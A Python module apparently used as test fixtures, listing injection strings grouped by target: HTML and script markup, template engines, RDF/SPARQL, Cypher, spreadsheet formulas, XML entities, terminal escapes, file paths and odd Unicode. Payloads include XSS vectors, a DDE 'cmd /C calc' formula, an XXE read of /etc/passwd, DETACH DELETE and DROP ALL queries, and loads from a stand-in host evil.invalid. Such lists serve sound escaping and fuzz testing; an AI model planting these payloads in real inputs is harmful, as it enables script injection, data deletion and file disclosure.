"""Strings that break out where text is not treated as data, by what they aim at."""

MARKUP = (
    "<script>pwned=1</script>",
    '"><img src=x onerror=pwned=1>',
    "</script><script>pwned=1</script>",
    "<svg onload=pwned=1>",
    "javascript:pwned=1",
    "' onmouseover='pwned=1",
    '" autofocus onfocus="pwned=1',
    '<iframe srcdoc="<script>parent.pwned=1</script>">',
    "{{constructor.constructor('pwned=1')()}}",
    "${pwned=1}`;pwned=1//",
    "{% for a in ().__class__.__base__.__subclasses__() %}{{a}}{% endfor %}",
    "{{7*7}}",
    "<!--<script>pwned=1",
    "]]><script>pwned=1</script>",
    "<style>@import'http://evil.invalid/x'</style>",
    "<link rel=stylesheet href=//evil.invalid/a>",
    "<base href=//evil.invalid/>",
    '<meta http-equiv=refresh content="0;url=http://evil.invalid/">',
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=pwned=1&#62;",
    "\\u003cscript\\u003epwned=1\\u003c/script\\u003e",
    '<a href="javascript:pwned=1">点我</a>',
    "<math><mtext></table><mglyph><style><img src=x onerror=pwned=1>",
    "<object data='data:text/html,<script>parent.pwned=1</script>'>",
    "\u2028;pwned=1//\u2029",
    "*/;pwned=1;/*",
)
RDF = (
    '" . <http://evil.invalid/s> <http://evil.invalid/p> "x',
    '"@zh . <http://evil.invalid/s> <http://evil.invalid/p> <http://evil.invalid/o> . #',
    "' } ; DROP ALL ; INSERT DATA { <a:b> <a:b> <a:b> } #",
    "> } UNION { ?s ?p ?o } #",
    '\\" . \n<http://evil.invalid/s> <http://evil.invalid/p> 1 .',
    '"""',
    "\\",
    '1"^^<http://evil.invalid/type>',
    "<http://evil.invalid/iri>",
    "@prefix ind: <http://evil.invalid/> .",
    "%0d%0aX-Evil:%201",
    "} SERVICE <http://evil.invalid/> { ?s ?p ?o } {",
)
CYPHER = (
    "'}) DETACH DELETE n //",
    "`) SET n.pwned = 1 //",
    '"); MATCH (n) DETACH DELETE n; //',
    "\\u0027}) RETURN 1 //",
)
SHEET = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.invalid","点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '"\n=1+1',
    "＝1+1",
)
XML = (
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "&x;&amp;",
    '<?xml-stylesheet href="http://evil.invalid/a"?>',
)
TERMINAL = (
    "\x1b[2J\x1b[31m红",
    "\x1b]0;pwned\x07",
    "\x1b]52;c;cHduZWQ=\x07",
    "\x9b31m\x9d0;pwned\x9c",
    "\r\x1b[Kkg: 完成",
    "\u202efdp.exe",
)
PATH = (
    "../../../../pwned",
    "/pwned",
    "..\\..\\pwned",
    "C:\\pwned",
    "file:///etc/passwd",
    "a/../../pwned\x00.txt",
)
ODD = ("\ud800", "\u200b\u200d", "甲" + "\u0301" * 200, "A" * 10_000, "（（（（“《", "\ufffe\uffff")

ATTACKS = MARKUP + RDF + CYPHER + SHEET + XML + TERMINAL + PATH + ODD
